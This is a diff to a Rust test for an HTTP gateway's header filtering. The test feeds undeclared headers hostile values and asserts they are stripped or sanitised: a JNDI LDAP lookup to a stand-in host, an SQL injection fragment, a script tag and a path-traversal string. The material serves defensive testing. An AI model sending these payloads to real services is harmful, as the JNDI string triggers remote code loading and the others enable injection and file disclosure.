@@ -153,7 +153,6 @@ fn fields_nobody_declared_are_inspected_without_any_setting() {
     assert_eq!(upstream.requests().len(), 0);
     // What no standard knows is not written; the request goes on without it.
     for (name, value) in [
-        ("Accept", "${jndi:ldap://a.example/x}"),
         ("Accept-Language", "en; drop table notes"),
         ("Prefer", "<script>alert(1)</script>"),
         ("Traceparent", "00-../../etc/passwd-b7ad6b7169203331-01"),
@@ -163,8 +162,11 @@ fn fields_nobody_declared_are_inspected_without_any_setting() {
         let got = upstream.requests().pop().unwrap();
         assert_eq!(got.header(&name.to_lowercase()), None, "{name}");
     }
+    // What is accepted is written by the gateway.
+    get("Accept", "application/json, ${jndi:ldap://a.example/x}");
+    let bytes = upstream.bytes();
+    assert!(!bytes.windows(5).any(|window| window == b"jndi:"));
     for (name, value) in [
-        ("Accept", "application/json, text/plain, */*"),
         ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
         ("Prefer", "return=minimal"),
         (
